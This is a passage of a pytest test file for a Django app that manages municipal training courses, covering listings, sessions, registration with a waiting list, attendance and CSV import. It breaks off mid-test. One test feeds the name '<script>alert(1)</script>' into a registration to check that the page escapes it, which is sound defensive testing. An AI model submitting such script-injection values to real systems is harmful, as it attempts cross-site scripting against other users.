"""The training pages: the list, creation and sessions, the training's page with registration and
cancellation (capacity and waiting list), attendance marked on the phone page or imported from
CSV, the CSV template and the paper sign-in sheet.

Every page x every persona (allowed; denied with nothing changed), the waiting list walked
through the pages, attendance refused before the session, the CSV import as a new user meets it
(good file; two bad rows reported and nothing imported; Latin-1; a formula), the sign-in sheet
read back with pdftotext, and query counts that do not grow with the rows."""

import subprocess
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from capacitaciones import services
from capacitaciones.models import (
    Asistencia,
    Capacitacion,
    EstadoInscripcion,
    Inscripcion,
    Invitacion,
    Organizador,
    Sesion,
)
from municipios.models import Municipalidad
from sello.errores import TransicionNoPermitida

from .capacitaciones_fixtures import asistir, capacitacion, inscripcion
from .conftest import client_for

pytestmark = pytest.mark.django_db

ESTADOS = ("presente", "atrasado", "justificado", "ausente")
UNA_FILA = "correo;estado\nana@independencia.cl;presente\n"
PASADA_FUTURA = {"sesiones_pasadas": 2, "sesiones_futuras": 1}


# --- Helpers ----------------------------------------------------------------------------------
def como(persona: Callable[[str], Any], nombre: str) -> Client:
    return client_for(persona(nombre))


def estado_de_todo() -> tuple[Any, ...]:
    """Everything a refused request must leave untouched."""
    return (
        tuple(Capacitacion.objects.order_by("pk").values_list("pk", "titulo", "cupo", "version")),
        tuple(Invitacion.objects.order_by("pk").values_list("capacitacion_id", "municipalidad_id")),
        tuple(Sesion.objects.order_by("pk").values_list("pk", "inicio", "fin", "lugar")),
        tuple(Inscripcion.objects.order_by("pk").values_list("pk", "estado", "email", "municipalidad_id")),
        tuple(Asistencia.objects.order_by("pk").values_list("pk", "sesion_id", "inscripcion_id", "estado")),
    )


def al_login(response: Any) -> bool:
    return response.status_code == 302 and response["Location"].startswith(reverse("login"))


def detalle_url(cap: Capacitacion) -> str:
    return reverse("capacitaciones:detalle", kwargs={"uuid": cap.uuid})


def pasada(cap: Capacitacion) -> Sesion:
    sesion = cap.sesiones.filter(inicio__lt=timezone.now()).order_by("inicio").first()
    assert sesion is not None
    return sesion


def futura(cap: Capacitacion) -> Sesion:
    sesion = cap.sesiones.filter(inicio__gt=timezone.now()).first()
    assert sesion is not None
    return sesion


def asistencia_url(sesion: Sesion, suffix: str = "") -> str:
    return reverse("capacitaciones:asistencia", kwargs={"pk": sesion.pk}) + suffix


def csv(texto: str, encoding: str = "utf-8") -> SimpleUploadedFile:
    return SimpleUploadedFile("asistencia.csv", texto.encode(encoding), content_type="text/csv")


def pdf_texto(pdf: bytes, tmp_path: Path) -> str:
    ruta = tmp_path / "hoja.pdf"
    ruta.write_bytes(pdf)
    return subprocess.run(["pdftotext", "-layout", str(ruta), "-"], capture_output=True, check=True, text=True).stdout


def datos_inscripcion(**extra: Any) -> dict[str, Any]:
    datos = {
        "nombre": "Carla Muñoz",
        "email": "carla@independencia.cl",
        "run": "",
        "institucion": "Municipalidad de Independencia",
        "unidad": "OMIL",
        "municipalidad": "",
    }
    datos.update(extra)
    return datos


@pytest.fixture
def cap_rm(regional, independencia) -> Capacitacion:
    """SERMIG RM's training inviting Independencia: two past sessions and a future one."""
    return capacitacion(regional, invitadas=[independencia], titulo="Capacitación regional RM", **PASADA_FUTURA)


@pytest.fixture
def con_participantes(cap_rm, independencia, quilicura) -> Capacitacion:
    """``cap_rm`` also inviting Quilicura, with two participants of each municipality."""
    Invitacion.objects.create(capacitacion=cap_rm, municipalidad=quilicura)
    inscripcion(cap_rm, "Ana Pérez", "ana@independencia.cl", municipalidad=independencia)
    inscripcion(cap_rm, "Luis Soto", "luis@independencia.cl", municipalidad=independencia)
    inscripcion(cap_rm, "Rosa Díaz", "rosa@quilicura.cl", municipalidad=quilicura)
    inscripcion(cap_rm, "Jean Baptiste", "jean@quilicura.cl", municipalidad=quilicura)
    return cap_rm


# --- The list ---------------------------------------------------------------------------------
@pytest.fixture
def cuatro(municipal, municipal_otra, regional, regional_otra, nacional, independencia, quilicura) -> dict[str, Any]:
    return {
        "rm": capacitacion(regional, invitadas=[independencia], titulo="RM invita a Independencia"),
        "muni": capacitacion(municipal, titulo="Independencia para su personal", sesiones_pasadas=0),
        "valpo": capacitacion(regional_otra, titulo="Valparaíso regional", sesiones_futuras=1),
        "nacional": capacitacion(nacional, invitadas=[quilicura], titulo="Nacional invita a Quilicura"),
    }


class TestLista:
    @pytest.mark.parametrize(
        ("nombre", "esperadas"),
        [
            ("municipal", {"rm", "muni"}),
            ("municipal_otra", {"nacional"}),
            ("regional", {"rm", "muni", "nacional"}),
            ("regional_otra", {"valpo"}),
            ("nacional", {"rm", "muni", "valpo", "nacional"}),
        ],
    )
    def test_it_lists_the_trainings_the_persona_sees(self, persona, cuatro, nombre, esperadas) -> None:
        response = como(persona, nombre).get(reverse("capacitaciones:lista"))
        assert response.status_code == 200
        vistas = {c.titulo for c in (f.capacitacion for f in response.context["filas"])}
        assert vistas == {cuatro[k].titulo for k in esperadas}
        body = response.content.decode()
        for clave, cap in cuatro.items():
            assert (cap.titulo in body) == (clave in esperadas)

    def test_the_evaluador_and_users_without_role_get_403_and_anonymous_the_login(
        self, persona, cuatro, sin_rol
    ) -> None:
        url = reverse("capacitaciones:lista")
        assert como(persona, "evaluador").get(url).status_code == 403
        assert client_for(sin_rol).get(url).status_code == 403
        assert al_login(client_for(None).get(url))

    def test_it_shows_organiser_dates_modality_and_registrations(self, regional, cap_rm, independencia) -> None:
        cap_rm.cupo = 2
        cap_rm.save()
        for n in range(2):
            inscripcion(cap_rm, f"P{n}", f"p{n}@x.cl", municipalidad=independencia)
        inscripcion(cap_rm, "Espera", "espera@x.cl", estado=EstadoInscripcion.LISTA_ESPERA)
        inscripcion(cap_rm, "Cancelada", "c@x.cl", estado=EstadoInscripcion.CANCELADA)
        response = client_for(regional).get(reverse("capacitaciones:lista"))
        body = response.content.decode()
        fila = response.context["filas"][0]
        assert fila.organiza == "SERMIG · Región Metropolitana de Santiago"
        assert fila.situacion == "En curso"  # two past sessions and a future one
        assert (fila.capacitacion.n_inscritas, fila.capacitacion.n_espera) == (2, 1)
        assert "2 / 2" in body
        assert "Presencial" in body
        primera = timezone.localtime(pasada(cap_rm).inicio)
        assert primera.strftime("%-d/%m/%Y") in body

    def test_it_filters_by_topic_and_dates(self, persona, cuatro) -> None:
        cuatro["valpo"].tema = "genero"
        cuatro["valpo"].save()
        client = como(persona, "nacional")

        def titulos(**params: str) -> list[str]:
            response = client.get(reverse("capacitaciones:lista"), params)
            assert response.status_code == 200
            return [f.capacitacion.titulo for f in response.context["filas"]]

        assert titulos(tema="genero") == ["Valparaíso regional"]
        # Upcoming: not yet ended, or still without sessions (nearest first, unscheduled last).
        assert titulos(cuando="proximas") == ["Valparaíso regional", "Independencia para su personal"]
        assert set(titulos(cuando="realizadas")) == {"RM invita a Independencia", "Nacional invita a Quilicura"}
        assert titulos(cuando="realizadas", tema="genero") == []
        # An unknown value is reported and not applied.
        response = client.get(reverse("capacitaciones:lista"), {"tema": "astrologia"})
        assert response.status_code == 200
        assert len(response.context["filas"]) == 4
        assert "astrologia" in response.content.decode()  # "Escoja una opción válida…"

    def test_it_paginates(self, regional) -> None:
        for n in range(27):
            capacitacion(regional, titulo=f"Capacitación {n:02d}", sesiones_pasadas=0)
        client = client_for(regional)
        primera = client.get(reverse("capacitaciones:lista"))
        assert len(primera.context["filas"]) == 25
        assert "27 capacitaciones" in primera.content.decode()
        segunda = client.get(reverse("capacitaciones:lista"), {"page": 2})
        assert len(segunda.context["filas"]) == 2

    @pytest.mark.parametrize("nombre", ["municipal", "regional", "nacional"])
    def test_query_count_does_not_grow_with_trainings(
        self, persona, nombre, municipal, regional, independencia, django_assert_num_queries
    ) -> None:
        client = como(persona, nombre)
        url = reverse("capacitaciones:lista")
        capacitacion(regional, invitadas=[independencia], titulo="Una")
        # 1 session, 2 user (with its municipalidad and región: the scope), 3 count, 4 the page
        # (organiser's región and municipality joined; sessions and registrations counted),
        # 5 unread notifications (nav).
        with django_assert_num_queries(5):
            response = client.get(url)
        assert len(response.context["filas"]) == 1
        for n in range(15):
            cap = capacitacion(
                regional if n % 2 else municipal, invitadas=[independencia], titulo=f"C{n}", sesiones_futuras=n % 3
            )
            inscripcion(cap, "P", f"p{n}@x.cl", municipalidad=independencia)
        with django_assert_num_queries(5):
            response = client.get(url, {"cuando": "proximas"})
        with django_assert_num_queries(5):
            response = client.get(url)
        assert len(response.context["filas"]) == 16


# --- Creation and sessions ----------------------------------------------------------------------
def datos_capacitacion(**extra: Any) -> dict[str, Any]:
    datos: dict[str, Any] = {
        "titulo": "Interculturalidad en la atención de público",
        "tema": "interculturalidad",
        "modalidad": "mixta",
        "descripcion": "Dos jornadas con casos prácticos.",
        "audiencias": ["dideco", "cesfam"],
        "cupo": "25",
        "horas": "8",
        "asistencia_minima": "75",
    }
    datos.update(extra)
    return datos


class TestNueva:
    def test_regional_staff_create_a_training_inviting_municipalities_of_their_region(
        self, regional, independencia, quilicura
    ) -> None:
        client = client_for(regional)
        form = client.get(reverse("capacitaciones:nueva"))
        assert form.status_code == 200
        opciones = form.context["form"].fields["invitadas"].queryset
        assert opciones.count() == 52  # the comunas of the Región Metropolitana
        assert {m.comuna.region_id for m in opciones} == {"13"}
        assert 'type="checkbox" name="audiencias" value="cesfam"' in form.content.decode()
        response = client.post(
            reverse("capacitaciones:nueva"), datos_capacitacion(invitadas=[independencia.pk, quilicura.pk])
        )
        cap = Capacitacion.objects.get()
        assert response.status_code == 302
        assert response["Location"] == reverse("capacitaciones:sesion_nueva", kwargs={"uuid": cap.uuid})
        assert (cap.organizador, cap.region_id, cap.municipalidad_organizadora) == (
            Organizador.SERMIG_REGIONAL,
            "13",
            None,
        )
        assert (cap.audiencias, cap.cupo, cap.asistencia_minima, str(cap.horas)) == (
            ["dideco", "cesfam"],
            25,
            75,
            "8.0",
        )
        assert set(cap.invitadas.all()) == {independencia, quilicura}

    def test_national_staff_may_invite_any_municipality(self, nacional) -> None:
        client = client_for(nacional)
        form = client.get(reverse("capacitaciones:nueva"))
        assert form.context["form"].fields["invitadas"].queryset.count() == 346
        valparaiso = Municipalidad.objects.get(comuna_id="05101")
        response = client.post(reverse("capacitaciones:nueva"), datos_capacitacion(invitadas=[valparaiso.pk]))
        assert response.status_code == 302
        cap = Capacitacion.objects.get()
        assert cap.organizador == Organizador.SERMIG_NACIONAL
        assert list(cap.invitadas.all()) == [valparaiso]

    def test_a_municipality_organises_for_its_own_staff(self, municipal, independencia) -> None:
        client = client_for(municipal)
        form = client.get(reverse("capacitaciones:nueva"))
        assert "invitadas" not in form.context["form"].fields
        response = client.post(reverse("capacitaciones:nueva"), datos_capacitacion())
        assert response.status_code == 302
        cap = Capacitacion.objects.get()
        assert (cap.organizador, cap.municipalidad_organizadora) == (Organizador.MUNICIPALIDAD, independencia)
        assert list(cap.invitadas.all()) == [independencia]

    def test_regional_staff_cannot_invite_outside_their_region(self, regional) -> None:
        valparaiso = Municipalidad.objects.get(comuna_id="05101")
        antes = estado_de_todo()
        response = client_for(regional).post(
            reverse("capacitaciones:nueva"), datos_capacitacion(invitadas=[valparaiso.pk])
        )
        assert response.status_code == 400
        assert "Escoja una opción válida" in response.content.decode()
        assert estado_de_todo() == antes

    @pytest.mark.parametrize(
        ("cambio", "mensaje"),
        [
            ({"titulo": ""}, "Este campo es requerido"),
            ({"cupo": "0"}, "mayor o igual a 1"),
            ({"horas": "abc"}, "Introduzca un número"),
            ({"asistencia_minima": "120"}, "menor o igual a 100"),
            ({"audiencias": []}, "Este campo es requerido"),
            ({"titulo": "   "}, "Este campo es requerido"),
        ],
    )
    def test_bad_input_is_refused_in_spanish_and_nothing_is_created(self, regional, cambio, mensaje) -> None:
        response = client_for(regional).post(reverse("capacitaciones:nueva"), datos_capacitacion(**cambio))
        assert response.status_code == 400
        assert mensaje in response.content.decode()
        assert not Capacitacion.objects.exists()

    def test_the_evaluador_and_users_without_role_cannot_create(self, evaluador, sin_rol) -> None:
        for user in (evaluador, sin_rol):
            client = client_for(user)
            assert client.get(reverse("capacitaciones:nueva")).status_code == 403
            assert client.post(reverse("capacitaciones:nueva"), datos_capacitacion()).status_code == 403
        assert al_login(client_for(None).post(reverse("capacitaciones:nueva"), datos_capacitacion()))
        assert not Capacitacion.objects.exists()


def datos_sesion(dias: int = 7, horas: int = 3, lugar: str = "Salón SERMIG, Santiago") -> dict[str, str]:
    inicio = timezone.localtime() + timedelta(days=dias)
    return {
        "inicio": inicio.strftime("%Y-%m-%dT%H:%M"),
        "fin": (inicio + timedelta(hours=horas)).strftime("%Y-%m-%dT%H:%M"),
        "lugar": lugar,
    }


class TestSesionNueva:
    def test_the_organiser_adds_sessions(self, regional) -> None:
        cap = capacitacion(regional, sesiones_pasadas=0)
        client = client_for(regional)
        url = reverse("capacitaciones:sesion_nueva", kwargs={"uuid": cap.uuid})
        form = client.get(url)
        assert form.status_code == 200
        assert 'type="datetime-local"' in form.content.decode()
        response = client.post(url, datos_sesion())
        assert response.status_code == 302
        assert response["Location"] == detalle_url(cap)
        sesion = cap.sesiones.get()
        assert sesion.lugar == "Salón SERMIG, Santiago"
        assert sesion.fin - sesion.inicio == timedelta(hours=3)
        assert "Salón SERMIG, Santiago" in client.get(detalle_url(cap)).content.decode()

    def test_an_end_before_the_start_is_refused_with_the_service_message(self, regional) -> None:
        cap = capacitacion(regional, sesiones_pasadas=0)
        url = reverse("capacitaciones:sesion_nueva", kwargs={"uuid": cap.uuid})
        response = client_for(regional).post(url, datos_sesion(horas=-2))
        assert response.status_code == 400
        assert "El término de la sesión debe ser posterior a su inicio." in response.content.decode()
        assert not cap.sesiones.exists()

    @pytest.mark.parametrize(
        ("nombre", "status"),
        [("municipal", 403), ("municipal_otra", 404), ("regional_otra", 404), ("evaluador", 404), ("anonimo", 302)],
    )
    def test_only_the_organiser_adds_sessions(self, persona, cap_rm, nombre, status) -> None:
        url = reverse("capacitaciones:sesion_nueva", kwargs={"uuid": cap_rm.uuid})
        antes = estado_de_todo()
        client = como(persona, nombre)
        assert client.get(url).status_code == status
        assert client.post(url, datos_sesion()).status_code == status
        assert estado_de_todo() == antes


# --- The training's page ----------------------------------------------------------------------
class TestDetalle:
    def test_the_organiser_sees_every_participant_and_the_session_tools(self, regional, con_participantes) -> None:
        response = client_for(regional).get(detalle_url(con_participantes))
        assert response.status_code == 200
        body = response.content.decode()
        for nombre in ("Ana Pérez", "Luis Soto", "Rosa Díaz", "Jean Baptiste"):
            assert nombre in body
        assert "Capacitación regional RM" in body
        assert "SERMIG · Región Metropolitana de Santiago" in body
        assert "DIDECO, OMIL" in body
        assert "4 / 30" in body
        sesion = pasada(con_participantes)
        assert reverse("capacitaciones:asistencia", kwargs={"pk": sesion.pk}) in body
        assert reverse("capacitaciones:hoja_asistencia", kwargs={"pk": sesion.pk}) in body
        assert reverse("capacitaciones:sesion_nueva", kwargs={"uuid": con_participantes.uuid}) in body
        # The organiser registers anyone: the municipality is a choice among the invited ones.
        opciones = [v for v, _ in response.context["form"].fields["municipalidad"].choices]
        assert len(opciones) == 3  # "none" + Independencia + Quilicura

    @pytest.mark.parametrize(
        ("nombre", "propios", "ajenos"),
        [
            ("municipal", {"Ana Pérez", "Luis Soto"}, {"Rosa Díaz", "Jean Baptiste"}),
            ("municipal_otra", {"Rosa Díaz", "Jean Baptiste"}, {"Ana Pérez", "Luis Soto"}),
        ],
    )
    def test_an_invited_municipality_sees_only_its_own_staff(
        self, persona, con_participantes, nombre, propios, ajenos
    ) -> None:
        response = como(persona, nombre).get(detalle_url(con_participantes))
        assert response.status_code == 200
        body = response.content.decode()
        assert all(n in body for n in propios)
        assert not any(n in body for n in ajenos)
        assert "4 / 30" in body  # the totals, not the names
        assert "Registrar asistencia" not in body
        assert "municipalidad" not in response.context["form"].fields  # forced to its own

    def test_regional_staff_not_organising_see_the_participants_of_their_region(
        self, municipal, regional, regional_otra, independencia
    ) -> None:
        cap = capacitacion(municipal, titulo="Municipal")
        inscripcion(cap, "Ana Pérez", "ana@independencia.cl", municipalidad=independencia)
        inscripcion(cap, "Externa", "externa@ong.cl")
        response = client_for(regional).get(detalle_url(cap))
        body = response.content.decode()
        assert "Ana Pérez" in body
        assert "Externa" not in body
        assert not response.context["puede_inscribir"]
        assert 'action="' + reverse("capacitaciones:inscribir", kwargs={"uuid": cap.uuid}) not in body
        assert client_for(regional_otra).get(detalle_url(cap)).status_code == 404

    @pytest.mark.parametrize(("nombre", "status"), [("regional_otra", 404), ("evaluador", 404), ("anonimo", 302)])
    def test_others_do_not_see_it(self, persona, con_participantes, nombre, status) -> None:
        response = como(persona, nombre).get(detalle_url(con_participantes))
        assert response.status_code == status
        assert "Ana Pérez" not in response.content.decode()

    def test_names_are_escaped(self, regional, cap_rm) -> None:
        inscripcion(cap_rm, "<script>alert(1)</script>", "x@x.cl")
        body = client_for(regional).get(detalle_url(cap_rm)).content.decode()
        assert "<script>alert(1)</script>" not in body
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body

    @pytest.mark.parametrize("nombre", ["regional", "municipal"])
    def test_query_count_does_not_grow_with_participants_and_sessions(
        self, persona, nombre, cap_rm, regional, independencia, quilicura, django_assert_num_queries
    ) -> None:
        client = como(persona, nombre)
        url = detalle_url(cap_rm)
        # 1 session, 2 user, 3 the training (organiser joined, registrations counted),
        # 4 invited municipalities, 5 sessions (attendees counted), 6 participants (with their
        # municipality; sessions attended counted), 7 unread notifications (nav).
        with django_assert_num_queries(7):
            client.get(url)
        Invitacion.objects.create(capacitacion=cap_rm, municipalidad=quilicura)
        for n in range(20):
            p = inscripcion(cap_rm, f"P{n}", f"p{n}@x.cl", municipalidad=independencia if n % 2 else quilicura)
            asistir(cap_rm, p, regional)
        for n in range(5):
            inicio = timezone.now() + timedelta(days=30 + n)
            Sesion.objects.create(capacitacion=cap_rm, inicio=inicio, fin=inicio + timedelta(hours=1), lugar="X")
        with django_assert_num_queries(7):
            response = client.get(url)
        assert len(response.context["sesiones"]) == 8
        assert len(response.context["inscritas"]) == (20 if nombre == "regional" else 10)


# --- Registration and the waiting list ----------------------------------------------------------
def inscribir_url(cap: Capacitacion) -> str:
    return reverse("capacitaciones:inscribir", kwargs={"uuid": cap.uuid})


def cancelar_url(cap: Capacitacion, p: Inscripcion) -> str:
    return reverse("capacitaciones:inscripcion_cancelar", kwargs={"uuid": cap.uuid, "pk": p.pk})


class TestInscripcion:
    def test_capacity_sends_the_third_to_the_waiting_list_and_a_cancellation_promotes_it(
        self, regional, independencia
    ) -> None:
        cap = capacitacion(regional, invitadas=[independencia], cupo=2)
        client = client_for(regional)
        for n, nombre in enumerate(("Ana Pérez", "Luis Soto", "Rosa Díaz")):
            response = client.post(
                inscribir_url(cap),
                datos_inscripcion(nombre=nombre, email=f"p{n}@independencia.cl", municipalidad=str(independencia.uuid)),
                follow=True,
            )
            assert response.status_code == 200
        body = response.content.decode()
        assert "El cupo está completo: Rosa Díaz quedó en lista de espera." in body
        estados = dict(cap.inscripciones.values_list("nombre", "estado"))
        assert estados == {"Ana Pérez": "inscrita", "Luis Soto": "inscrita", "Rosa Díaz": "espera"}
        assert [p.nombre for p in response.context["en_espera"]] == ["Rosa Díaz"]
        assert "2 / 2 · 1 persona en lista de espera" in body
        assert cap.inscripciones.get(nombre="Ana Pérez").municipalidad == independencia

        ana = cap.inscripciones.get(nombre="Ana Pérez")
        response = client.post(cancelar_url(cap, ana), follow=True)
        body = response.content.decode()
        assert "Se canceló la inscripción de Ana Pérez." in body
        assert "Rosa Díaz pasó de la lista de espera a inscrito/a." in body
        estados = dict(cap.inscripciones.values_list("nombre", "estado"))
        assert estados == {"Ana Pérez": "cancelada", "Luis Soto": "inscrita", "Rosa Díaz": "inscrita"}
        # Cancelling again: it is no longer a cancellable registration.
        assert client.post(cancelar_url(cap, ana)).status_code == 404
        assert cap.inscripciones.filter(estado="inscrita").count() == 2

    def test_a_stale_second_cancellation_is_refused_and_promotes_nobody(self, regional, independencia) -> None:
        """Two people cancelling the same registration at once (the second with the page it
        loaded before): the place is freed once, only the first of the waiting list moves up."""
        cap = capacitacion(regional, invitadas=[independencia], cupo=1)
        ana = inscripcion(cap, "Ana Pérez", "ana@independencia.cl")
        inscripcion(cap, "Espera 1", "e1@x.cl", estado=EstadoInscripcion.LISTA_ESPERA)
        inscripcion(cap, "Espera 2", "e2@x.cl", estado=EstadoInscripcion.LISTA_ESPERA)
        vista_antes = Inscripcion.objects.get(pk=ana.pk)
        promovida = services.inscripcion_cancelar(inscripcion=ana, usuario=regional)
        assert promovida is not None
        assert promovida.nombre == "Espera 1"
        with pytest.raises(TransicionNoPermitida, match="ya estaba cancelada"):
            services.inscripcion_cancelar(inscripcion=vista_antes, usuario=regional)
        assert dict(cap.inscripciones.values_list("nombre", "estado")) == {
            "Ana Pérez": "cancelada",
            "Espera 1": "inscrita",
            "Espera 2": "espera",
        }

    def test_an_invited_municipality_registers_its_own_staff(self, municipal, cap_rm, independencia, quilicura) -> None:
        response = client_for(municipal).post(
            inscribir_url(cap_rm), datos_inscripcion(municipalidad=str(quilicura.uuid))
        )
        assert response.status_code == 302
        assert response["Location"] == detalle_url(cap_rm) + "#participantes"
        carla = cap_rm.inscripciones.get()
        assert (carla.nombre, carla.email, carla.estado) == ("Carla Muñoz", "carla@independencia.cl", "inscrita")
        assert carla.municipalidad == independencia  # forced, whatever was posted

    def test_an_invited_municipality_cancels_only_its_own_staff(self, municipal, con_participantes) -> None:
        client = client_for(municipal)
        rosa = con_participantes.inscripciones.get(nombre="Rosa Díaz")  # Quilicura's
        antes = estado_de_todo()
        assert client.post(cancelar_url(con_participantes, rosa)).status_code == 404
        assert estado_de_todo() == antes
        ana = con_participantes.inscripciones.get(nombre="Ana Pérez")
        assert client.post(cancelar_url(con_participantes, ana)).status_code == 302
        ana.refresh_from_db()
        assert ana.estado == "cancelada"

    @pytest.mark.parametrize(
        ("cambio", "mensaje"),
        [
            ({"email": "no-es-correo"}, "Introduzca una dirección de correo electrónico válida"),
            ({"nombre": ""}, "Este campo es requerido"),
            ({"run": "12.345.678-9"}, "El RUN no es válido"),
            ({"email": "ana@independencia.cl"}, "Esa persona ya está inscrita en esta capacitación."),
        ],
    )
    def test_bad_input_is_refused_in_spanish(self, regional, con_participantes, cambio, mensaje) -> None:
        antes = estado_de_todo()
        response = client_for(regional).post(inscribir_url(con_participantes), datos_inscripcion(**cambio))
        assert response.status_code == 400
        assert mensaje in response.content.decode()
        assert estado_de_todo() == antes

    def test_regional_staff_not_organising_cannot_register_nor_cancel(self, municipal, regional, independencia) -> None:
        cap = capacitacion(municipal, titulo="Municipal")
        ana = inscripcion(cap, "Ana Pérez", "ana@independencia.cl", municipalidad=independencia)
        antes = estado_de_todo()
        client = client_for(regional)
        response = client.post(inscribir_url(cap), datos_inscripcion())
        assert response.status_code == 403
        assert "No puede inscribir participantes en esta capacitación." in response.content.decode()
        response = client.post(cancelar_url(cap, ana))
        assert response.status_code == 403
        assert "No puede cancelar esta inscripción." in response.content.decode()
        assert estado_de_todo() == antes

    @pytest.mark.parametrize(("nombre", "status"), [("regional_otra", 404), ("evaluador", 404), ("anonimo", 302)])
    def test_others_cannot_register_nor_cancel(self, persona, con_participantes, nombre, status) -> None:
        ana = con_participantes.inscripciones.get(nombre="Ana Pérez")
        antes = estado_de_todo()
        client = como(persona, nombre)
        assert client.post(inscribir_url(con_participantes), datos_inscripcion()).status_code == status
        assert client.post(cancelar_url(con_participantes, ana)).status_code == status
        assert estado_de_todo() == antes

    def test_a_municipality_not_invited_cannot_register(self, municipal_otra, cap_rm) -> None:
        antes = estado_de_todo()
        response = client_for(municipal_otra).post(inscribir_url(cap_rm), datos_inscripcion())
        assert response.status_code == 404
        assert estado_de_todo() == antes


# --- Attendance -------------------------------------------------------------------------------
@pytest.fixture
def dos(cap_rm, independencia) -> tuple[Inscripcion, Inscripcion]:
    return (
        inscripcion(cap_rm, "Ana Pérez", "ana@independencia.cl", municipalidad=independencia),
        inscripcion(cap_rm, "Luis Soto", "luis@independencia.cl", municipalidad=independencia),
    )


class TestAsistencia:
    def test_the_organiser_marks_attendance_on_the_phone_page(self, regional, cap_rm, dos) -> None:
        ana, luis = dos
        inscripcion(cap_rm, "En espera", "espera@x.cl", estado=EstadoInscripcion.LISTA_ESPERA)
        sesion = pasada(cap_rm)
        client = client_for(regional)
        page = client.get(asistencia_url(sesion))
        assert page.status_code == 200
        body = page.content.decode()
        assert '<meta name="viewport"' in body
        assert [f.inscripcion.nombre for f in page.context["filas"]] == ["Ana Pérez", "Luis Soto"]
        for estado in ESTADOS:
            assert f'name="p{ana.pk}" value="{estado}"' in body
        assert body.count('type="radio"') == 8
        assert body.count('type="submit" class="guardar"') == 1
        assert "<script" not in body
        assert " disabled" not in body

        response = client.post(asistencia_url(sesion), {f"p{ana.pk}": "presente", f"p{luis.pk}": "atrasado"})
        assert response.status_code == 302
        assert response["Location"] == asistencia_url(sesion)
        assert dict(sesion.asistencias.values_list("inscripcion__nombre", "estado")) == {
            "Ana Pérez": "presente",
            "Luis Soto": "atrasado",
        }
        assert set(sesion.asistencias.values_list("marcada_por", flat=True)) == {regional.pk}
        # The saved marks come back checked; a change is an update, not a second row.
        page = client.get(asistencia_url(sesion))
        assert page.context["form"].initial == {f"p{ana.pk}": "presente", f"p{luis.pk}": "atrasado"}
        assert "Se guardó la asistencia de 2 participantes." in page.content.decode()
        client.post(asistencia_url(sesion), {f"p{luis.pk}": "justificado"})
        assert dict(sesion.asistencias.values_list("inscripcion__nombre", "estado")) == {
            "Ana Pérez": "presente",
            "Luis Soto": "justificado",
        }

    def test_a_session_that_has_not_started_cannot_be_marked(self, regional, cap_rm, dos) -> None:
        ana, _luis = dos
        sesion = futura(cap_rm)
        client = client_for(regional)
        page = client.get(asistencia_url(sesion))
        assert page.status_code == 200
        body = page.content.decode()
        assert "No se puede registrar asistencia de una sesión que aún no ocurre." in body
        assert '<fieldset class="asistencia-form" disabled>' in body
        response = client.post(asistencia_url(sesion), {f"p{ana.pk}": "presente"})
        assert response.status_code == 409
        assert "No se puede registrar asistencia de una sesión que aún no ocurre." in response.content.decode()
        assert not Asistencia.objects.exists()
        response = client.post(asistencia_url(sesion, "importar/"), {"archivo": csv(UNA_FILA)})
        assert response.status_code == 409
        assert not Asistencia.objects.exists()

    def test_an_invalid_state_or_nothing_marked_is_refused(self, regional, cap_rm, dos) -> None:
        ana, _luis = dos
        sesion = pasada(cap_rm)
        client = client_for(regional)
        response = client.post(asistencia_url(sesion), {f"p{ana.pk}": "dormido"})
        assert response.status_code == 400
        assert "Escoja una opción válida" in response.content.decode()
        response = client.post(asistencia_url(sesion), {})
        assert response.status_code == 400
        assert "Marque la asistencia de al menos un/a participante." in response.content.decode()
        assert not Asistencia.objects.exists()

    def test_a_participant_of_another_training_is_ignored(self, regional, cap_rm, dos) -> None:
        ana, _luis = dos
        otra = capacitacion(regional, titulo="Otra")
        ajena = inscripcion(otra, "Ajena", "ajena@x.cl")
        sesion = pasada(cap_rm)
        response = client_for(regional).post(
            asistencia_url(sesion), {f"p{ana.pk}": "presente", f"p{ajena.pk}": "presente"}
        )
        assert response.status_code == 302
        assert list(Asistencia.objects.values_list("inscripcion__nombre", flat=True)) == ["Ana Pérez"]

    @pytest.mark.parametrize(
        ("nombre", "status"),
        [("municipal", 403), ("municipal_otra", 404), ("regional_otra", 404), ("evaluador", 404), ("anonimo", 302)],
    )
    def test_only_the_organiser_marks_attendance(self, persona, cap_rm, dos, nombre, status) -> None:
        ana, _luis = dos
        sesion = pasada(cap_rm)
        antes = estado_de_todo()
        client = como(persona, nombre)
        for response in (
            client.get(asistencia_url(sesion)),
            client.post(asistencia_url(sesion), {f"p{ana.pk}": "presente"}),
            client.post(asistencia_url(sesion, "importar/"), {"archivo": csv(UNA_FILA)}),
            client.get(reverse("capacitaciones:hoja_asistencia", kwargs={"pk": sesion.pk})),
        ):
            assert response.status_code == status
            assert "Luis Soto" not in response.content.decode(errors="replace")
        assert estado_de_todo() == antes

    def test_national_staff_manage_any_training(self, nacional, cap_rm, dos) -> None:
        ana, _luis = dos
        response = client_for(nacional).post(asistencia_url(pasada(cap_rm)), {f"p{ana.pk}": "ausente"})
        assert response.status_code == 302
        assert Asistencia.objects.get().estado == "ausente"

    def test_an_unknown_session_is_404(self, regional) -> None:
        assert client_for(regional).get(reverse("capacitaciones:asistencia", kwargs={"pk": 999999})).status_code == 404


# --- CSV import ---------------------------------------------------------------------------------
class TestImportarCsv:
    def test_a_good_file_is_imported(self, regional, cap_rm, dos) -> None:
        sesion = pasada(cap_rm)
        contenido = "correo;estado\r\nANA@independencia.cl ; Presente\r\nluis@independencia.cl;justificado\r\n;\r\n"
        response = client_for(regional).post(
            asistencia_url(sesion, "importar/"), {"archivo": csv(contenido)}, follow=True
        )
        assert response.redirect_chain == [(asistencia_url(sesion), 302)]
        assert "Se importó la asistencia de 2 participantes." in response.content.decode()
        assert dict(sesion.asistencias.values_list("inscripcion__nombre", "estado")) == {
            "Ana Pérez": "presente",
            "Luis Soto": "justificado",
        }

    def test_a_file_with_two_bad_rows_reports_exactly_those_and_imports_nothing(
        self, regional, cap_rm, dos, independencia
    ) -> None:
        inscripcion(cap_rm, "Rosa Díaz", "rosa@independencia.cl", municipalidad=independencia)
        sesion = pasada(cap_rm)
        contenido = (
            "correo;estado\n"
            "ana@independencia.cl;presente\n"  # fila 2: ok
            "pedro@independencia.cl;presente\n"  # fila 3: not registered
            "luis@independencia.cl;atrasado\n"  # fila 4: ok
            "rosa@independencia.cl;tarde\n"  # fila 5: unknown state
        )
        antes = estado_de_todo()
